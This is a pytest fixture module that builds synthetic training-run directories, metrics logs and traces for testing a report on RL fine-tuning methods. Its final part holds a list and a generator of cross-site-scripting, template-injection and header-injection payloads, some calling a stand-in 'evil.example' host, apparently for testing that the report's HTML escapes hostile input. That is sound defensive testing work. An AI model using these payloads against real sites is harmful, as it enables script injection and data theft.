"""Synthetic run directories for the report's tests, with numbers as once measured."""

from __future__ import annotations

import json
import math
import random
import re
from pathlib import Path
from typing import Any

import pytest

# Final sampled and greedy accuracy, the filtered log-variance and the clipped share, as measured once.
PUBLISHED_FAILS = {
    "kpo": (0.01, 0.02, 1e-9, 0.0005),
    "kpo_diffuse": (0.32, 0.64, 4e-4, 0.35),
    "ratio_one": (0.00, 0.01, 0.0, 0.0),
    "grpo": (0.33, 0.61, 3.5e-2, 0.044),
    "gspo": (0.31, 0.62, 3e-4, 0.5),
}
EVERY_METHOD_WORKS = {name: (0.55, 0.8, 1e-3, 0.1) for name in PUBLISHED_FAILS}
START = (0.22, 0.59)


def write_run(
    folder: Path,
    labels: dict[str, Any],
    *,
    start: tuple[float, float] = START,
    end: tuple[float, float] = (0.6, 0.8),
    updates: int = 40,
    cycle: int = 2,
    evaluations: int = 6,
    count: int | None = 512,
    variance: float = 4e-4,
    clipped: float = 0.1,
    status: str = "finished",
    config: str = "",
    seed: int = 0,
) -> Path:
    """A run directory as training writes it, with numbers that move from ``start`` to ``end``."""
    random.seed(f"{folder.name}{seed}")
    folder.mkdir(parents=True)
    manifest = {
        "format": 1, "created": "2026-11-22T10:00:00Z", "status": status, "seed": seed, "dtype": "float32",
        "versions": {"torch": "2.13.0", "trl": "1.16.0"}, "device": "cpu", "threads": 2, "labels": labels,
        "git": {"commit": "0123abc", "dirty": False}, "seconds": 62.4,
    }  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "config.toml").write_text(config or 'method = "kpo_diffuse"\nlearning_rate = 3e-4\n')
    rows: list[dict[str, Any]] = []
    for place in range(evaluations):
        share = place / max(evaluations - 1, 1)
        bend = share**0.6
        row: dict[str, Any] = {"kind": "eval", "step": round(share * updates), "time": 60 * share}
        for kind, low, high in (("sampled", start[0], end[0]), ("greedy", start[1], end[1])):
            row[f"eval/{kind}_accuracy"] = row[f"eval/{kind}_reward"] = low + (high - low) * bend
        rows.append(row | ({"eval/count": count} if count else {}))
    for step in range(1, updates + 1):
        noop = (step - 1) % cycle == 0
        share, jitter = step / updates, math.exp(random.gauss(0, 0.35))
        drift = 0.0 if noop else ((step - 1) % cycle) / cycle * jitter
        reward = start[0] + (end[0] - start[0]) * share**0.6 + random.gauss(0, 0.03)
        rows.append(
            {
                "kind": "train", "step": step, "time": 1.5 * step, "loss": -0.01, "reward": max(0.0, reward),
                "entropy": 0.6 - 0.35 * share + random.gauss(0, 0.02), "completions/mean_length": 3.2,
                "ratio/raw_log_variance": 6e-3 * drift, "ratio/filtered_log_variance": variance * drift,
                "effective_sample_size/tokens": 1.0 - variance * drift, "ratio/noop": float(noop),
                "effective_sample_size/sequences_raw": 1.0 - 0.2 * min(drift, 4.0),
                "trust/kept": 1.0 - clipped * drift, "policy/kl_old": 4e-3 * drift,
            }
        )  # fmt: skip
    (folder / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    return folder


def write_study(
    folder: Path,
    table: dict[str, tuple[float, float, float, float]],
    *,
    seeds: int = 3,
    noise: float = 0.01,
    **more: Any,
) -> Path:
    """A stress study: conditions A, B and C, each method, each seed."""
    for condition, rate, epochs, factor in (("A", 1e-4, 1, 1.0), ("B", 1e-4, 4, 0.85), ("C", 3e-4, 1, 0.8)):
        for method, (sampled, greedy, variance, clipped) in table.items():
            for seed in range(seeds):
                random.seed(f"{condition}{method}{seed}")
                shift = random.gauss(0, noise)
                end = tuple(max(0.0, value * factor + shift) for value in (sampled, greedy))
                write_run(
                    folder / "runs" / f"{condition}-{method}-seed{seed}",
                    {"condition": condition, "method": method, "seed": seed},
                    end=end, updates=192, cycle=8, variance=variance, clipped=clipped, seed=seed,
                    config=f'method = "{method}"\n[trainer]\nlearning_rate = {rate}\nepochs = {epochs}\n',
                    **more,
                )  # fmt: skip
    return folder


def write_trace(
    folder: Path,
    tokens: list[str],
    *,
    step: int = 12,
    scale: float = 0.2,
    prompt: str = "7 * 6 =",
    sequences: int = 2,
    answer: str | None = None,
) -> None:
    """One Parquet file of sequences with the given tokens, encouraged and discouraged in turn."""
    pyarrow = pytest.importorskip("pyarrow")
    from pyarrow import parquet

    random.seed(step)
    rows = []
    for sequence in range(sequences):
        advantage = (1.2, -0.8)[sequence % 2]
        for position, token in enumerate(tokens):
            raw = random.gauss(0, scale)
            kept = (position + sequence) % 3 != 2
            rows.append(
                {
                    "step": step, "sequence": sequence, "prompt_id": "p", "prompt": prompt,
                    "completion": "".join(tokens), "position": position, "token_id": position, "token": token,
                    "logp_old": -1.0, "logp_behaviour": None, "logp": -1.0 + raw, "log_ratio": raw,
                    "filtered_log_ratio": raw / (position + 1), "gain": None,
                    "coefficient": math.exp(raw) if kept else 0.0, "kept": kept, "advantage": advantage,
                    "reward": None, "answer": answer,
                }
            )  # fmt: skip
    (folder / "traces").mkdir(exist_ok=True)
    parquet.write_table(pyarrow.Table.from_pylist(rows), folder / "traces" / f"step-{step:06d}.parquet")


def write_demo(
    folder: Path, table: dict[str, tuple[float, float, float, float]] = PUBLISHED_FAILS, **more: Any
) -> Path:
    """What the demo writes: one main run with traces, and a stress study."""
    labels = {"method": "kpo_diffuse", "model": "SmolLM2-135M-Instruct", "task": "products"}
    main = write_run(folder / "main", labels, start=(0.47, 0.58), end=(0.91, 0.96), count=128)
    write_trace(main, [" 4", "2", "\n", " 7"])
    write_study(folder / "stress", table, **more)
    return folder


def write_beliefs(
    folder: Path, *, prompts: int = 30, batches: int = 40, size: int = 8, fixed: int = 8, texts: Any = ()
) -> None:
    """``beliefs.jsonl`` of a tracked run: success rates that rise, and a filter with known noise."""
    rng = random.Random(7)
    rate = [rng.uniform(0.02, 0.9) for _ in range(prompts)]
    mean, variance = [0.4] * prompts, [0.06] * prompts
    rows = []
    for batch in range(batches):
        chosen = rng.sample(range(prompts), size)
        row: dict[str, Any] = {
            "step": 2 * batch, "rows": size * fixed, "allocation": "rounds", "rewards": "unit", "prompts": size,
            "levels": [0.5, 0.9], "judged": size, "inside": [size // 2, size - (batch % 2)], "mixed": "",
        }  # fmt: skip
        lists: dict[str, list[Any]] = {
            key: [] for key in ("id", "n", "reward", "mean", "sd", "noise", "after", "after_sd", "next")
        }
        for i in chosen:
            n = rng.randint(2, 12)
            wins = sum(rng.random() < rate[i] for _ in range(n))
            noise = 0.2 / n
            gain = variance[i] / (variance[i] + noise)
            before = mean[i], math.sqrt(variance[i])
            mean[i] += gain * (wins / n - mean[i])
            variance[i] = variance[i] * (1 - gain)
            values = (f"p{i}", n, wins / n, *before, math.sqrt(0.2), mean[i], math.sqrt(variance[i]), n + 1)
            for key, value in zip(lists, values):
                lists[key].append(value)
            row["mixed"] += "1" if 0 < wins < n else "0"
            variance[i] += 0.002
        row |= lists
        row |= {"used": sum(lists["n"]), "groups": size, "informative": row["mixed"].count("1")}
        row["texts"] = {f"p{i}": str(texts[i]) if i < len(texts) else f"What is {i} + {i}?" for i in chosen}
        rows.append(json.dumps(row) + "\n")
    (folder / "beliefs.jsonl").write_text("".join(rows))


def write_large_run(folder: Path, *, steps: int, completions: int, tokens: int) -> Path:
    """A long run with a trace file for every step; the files share a few contents."""
    write_run(folder, {"method": "kpo_diffuse"}, updates=steps, config='method = "kpo_diffuse"\n')
    write_trace(folder, [f" word{i}" for i in range(tokens)], step=1, sequences=completions)
    first = folder / "traces" / "step-000001.parquet"
    for step in range(2, steps + 1):
        first.with_name(f"step-{step:06d}.parquet").hardlink_to(first)
    write_beliefs(folder, prompts=2_000, batches=steps // 2, size=64)
    return folder


HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--",
    "--><script>alert(1)</script>",
    "]]><script>",
    "<![CDATA[<script>]]>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ config.__class__ }}",
    "${7*7}",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='http://evil'>x</a>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//e>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\x00<b\x00>",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\ufeff",
    "\ud800",
    "\u2028\u2029",
    "<" * 2000,
    "A" * 1_000_000,
    "<plaintext>",
    "<textarea>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></math>",
    "%3Cscript%3E",
    "data:text/html,<script>",
    "\ufffe\U000e0041",
    "a\r\nSet-Cookie: x",
    "{0.__class__}{}",
]


def charts_of(html: str) -> list[dict[str, Any]]:
    """What each chart of a page shows."""
    found = re.findall(r'data-chart role="img"><script type="application/json">(.*?)</script>', html)
    return [json.loads(text) for text in found]


def shown_at(html: str, name: str, x_label: str) -> dict[float, list[float | None]]:
    """Values of the lines of a name over their places, from all charts with this x axis."""
    values: dict[float, list[float | None]] = {}
    for chart in charts_of(html):
        for line in chart.get("lines", []) if chart["x"] == x_label else []:
            for x, y in zip(*line["points"]) if line["name"] == name else ():
                values.setdefault(x, []).append(y)
    return values


def hostile_payloads() -> list[str]:
    """The list above, and what it grows to with every way to call and every place to break out of."""
    calls = [
        "window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example')",
        "top['pwned']=1", "location='//evil.example'", "import('//evil.example/x.js')",
        "new Image().src='//evil.example'",
    ]  # fmt: skip
    shapes = [
        "<script>{}</script>", "</script><script>{}</script>", "</SCRIPT ><script>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}>",
        "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{} autofocus onfocus={}>x</a>",
        "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<details open ontoggle={}>",
        "<form action=javascript:{}><button autofocus>x</button></form>",
        "<math><mi//xlink:href=javascript:{}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
        "<style>@import '//evil.example/{}';</style>", "<link rel=stylesheet href=//evil.example/{}>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "--!><script>{}</script>",
        "<!--<script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>",
        "</title><script>{}</script>", '"></span><script>{}</script>', "'\"><img src=x onerror={}>",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e", "javascript:{}", "${{{}}}", "`${{{}}}`",
        "</script\x00><script>{}</script>", "<scr\u200bipt>{}</scr\u200bipt>", "\u202e<script>{}</script>",
    ]  # fmt: skip
    grown = [shape.format(*[call] * shape.count("{}")) for shape in shapes for call in calls]
    return [*HOSTILE, *grown]
